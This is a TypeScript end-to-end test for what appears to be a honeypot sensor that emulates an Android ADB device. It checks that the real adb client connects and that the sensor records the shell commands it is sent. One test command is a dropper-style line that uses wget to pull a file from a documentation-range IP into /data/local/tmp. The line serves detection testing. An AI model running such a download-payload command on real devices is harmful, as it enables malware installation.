// End to end: Debian's real `adb` client connects to the sensor as to a device on TCP, runs a
// dropper-style shell command, and the sensor records the command. The adb server runs on a
// private port and is killed at the end.

import { spawnSync } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportEvents, freePort, startSensor, type RunningSensor } from './helpers/sensor.js';

const HOST = '127.0.2.1';
const HAS_ADB = spawnSync('adb', ['version']).status === 0;
const ADB_TIMEOUT_MS = 30_000;

describe('adb client against the ADB emulation', () => {
  let sensor: RunningSensor;
  let port: number;
  let env: NodeJS.ProcessEnv;

  function adb(...args: string[]) {
    return spawnSync('adb', args, { env, encoding: 'utf8', timeout: ADB_TIMEOUT_MS });
  }

  beforeAll(async () => {
    if (!HAS_ADB) return;
    port = await freePort(HOST);
    env = { ...process.env, ANDROID_ADB_SERVER_PORT: String(await freePort()) };
    sensor = await startSensor({ ports: `tcp:${port}`, listen: HOST });
  });

  afterAll(async () => {
    if (!HAS_ADB) return;
    adb('kill-server');
    await sensor?.stop();
  });

  it.skipIf(!HAS_ADB)('connects, runs a shell command and records it (needs adb)', async () => {
    const target = `${HOST}:${port}`;
    const connect = adb('connect', target);
    expect(connect.stdout + connect.stderr).toContain(`connected to ${target}`);
    const devices = adb('devices', '-l');
    expect(devices.stdout).toMatch(/device product:rk3399_all model:rk3399_all device:rk3399_all/);

    const command = 'cd /data/local/tmp; wget http://198.51.100.5/x';
    const shell = adb('-s', target, 'shell', command);
    expect(shell.status, shell.stderr).toBe(0);
    const id = adb('-s', target, 'shell', 'id');
    expect(id.stdout).toMatch(/^uid=2000\(shell\)/);

    adb('kill-server');
    await sensor.stop();
    const events = exportEvents(sensor.db).filter((e) => e.protocol === 'adb');
    expect(events).toHaveLength(1);
    const event = events[0];
    expect(event?.commands).toEqual([command, 'id']);
    expect(event?.fields['client_banner']).toMatch(/^host::features=.*shell_v2/);
    expect(event?.fields['services']).toEqual([expect.stringMatching(/^shell,v2,.*raw:cd /),
      expect.stringMatching(/^shell,v2,.*raw:id$/)]);
  });
});
